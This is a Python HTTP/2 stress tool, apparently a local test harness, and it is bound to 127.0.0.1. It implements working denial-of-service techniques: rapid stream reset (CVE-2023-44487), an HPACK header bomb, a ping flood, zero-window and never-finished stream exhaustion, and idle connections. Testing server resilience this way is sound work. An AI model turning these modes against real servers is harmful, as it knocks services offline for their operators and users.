"""Presses a server over HTTP/2 as no browser does, with the library h2, and says in a line of JSON what came of it.

    streams.py MODE --port PORT --host HOST --ca FILE [--count N] [--seconds S] [--target PATH]

    reset       asks and takes it back at once, up to N times (rapid reset, CVE-2023-44487)
    fields      one head whose fields, packed, are some kilobytes and, unpacked, N times four (a bomb of HPACK)
    pings       N pings at once
    unread      asks on N streams at once with a window that stays shut, and holds them for S seconds
    unfinished  asks on N streams at once and never ends its requests, for S seconds
    silent      opens the connection and says nothing more, not even that it has heard a goodbye, for S seconds

Only ever against 127.0.0.1.
"""

import argparse
import json
import select
import socket
import ssl
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings


class Client:
    def __init__(self, options, settings=None):
        self.options = options
        self.connection = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False)
        )
        if settings:
            self.connection.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        context = ssl.create_default_context(cafile=options.ca)
        context.set_alpn_protocols(["h2"])
        plain = socket.create_connection(("127.0.0.1", options.port), timeout=20)
        self.socket = context.wrap_socket(plain, server_hostname=options.host)
        assert self.socket.selected_alpn_protocol() == "h2", "the server speaks no HTTP/2"
        self.report = {"sent": 0, "answers": {}, "resets": 0, "goodbye": None, "closed": False}
        self.connection.initiate_connection()
        self.flush()

    def head(self, *more):
        return [
            (":method", "GET"), (":scheme", "https"), (":authority", self.options.host), (":path", self.options.target),
            ("user-agent", "Mozilla/5.0 (X11; Linux) Gecko Firefox/140"), *more,
        ]

    def ask(self, *more, ends=True):
        stream = self.connection.get_next_available_stream_id()
        self.connection.send_headers(stream, self.head(*more), end_stream=ends)
        self.report["sent"] += 1
        return stream

    def flush(self):
        """Sends what there is to send; False when nobody is there any more."""
        try:
            self.socket.sendall(self.connection.data_to_send())
        except OSError:
            self.report["closed"] = True
        return not self.report["closed"]

    def listen(self, seconds, is_silent=False):
        """Hears what comes for so long at most; False when the connection is over."""
        end = time.monotonic() + seconds
        while not self.report["closed"]:
            left = end - time.monotonic()
            if not self.socket.pending() and not select.select([self.socket], [], [], max(left, 0))[0]:
                return True
            try:
                data = self.socket.recv(65536)
            except OSError:
                data = b""
            if not data:
                self.report["closed"] = True
            elif not is_silent:
                self.hear(data)
                self.flush()
            if left <= 0:
                break
        return not self.report["closed"]

    def hear(self, data):
        try:
            events = self.connection.receive_data(data)
        except h2.exceptions.ProtocolError:
            return
        for event in events:
            if isinstance(event, h2.events.ResponseReceived):
                status = dict(event.headers)[":status"]
                self.report["answers"][status] = self.report["answers"].get(status, 0) + 1
            elif isinstance(event, h2.events.DataReceived):
                self.connection.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                self.report["resets"] += 1
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.report["goodbye"] = int(event.error_code)


def press(options):
    """Sends until it has sent everything, or until the server has had enough."""
    shut = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0} if options.mode == "unread" else None
    client = Client(options, shut)
    if options.mode != "silent":
        client.listen(0.2)
    try:
        if options.mode == "reset":
            while client.report["sent"] < options.count:
                for _ in range(20):
                    client.connection.reset_stream(client.ask(), error_code=8)
                if not client.flush() or not client.listen(0):
                    break
        elif options.mode == "pings":
            while client.report["sent"] < options.count:
                for _ in range(20):
                    client.connection.ping(b"caunoi-1")
                    client.report["sent"] += 1
                if not client.flush() or not client.listen(0):
                    break
        elif options.mode == "fields":
            client.ask(*[("x-dai", "v" * 3900)] * options.count)
            client.flush()
        elif options.mode != "silent":
            for _ in range(options.count):
                client.ask(ends=options.mode == "unread")
            client.flush()
    except h2.exceptions.ProtocolError:
        # Told to go, the library sends nothing more.
        pass
    client.listen(options.seconds, is_silent=options.mode == "silent")
    return client.report


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["reset", "fields", "pings", "unread", "unfinished", "silent"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--target", default="/")
    print(json.dumps(press(parser.parse_args())))


main()
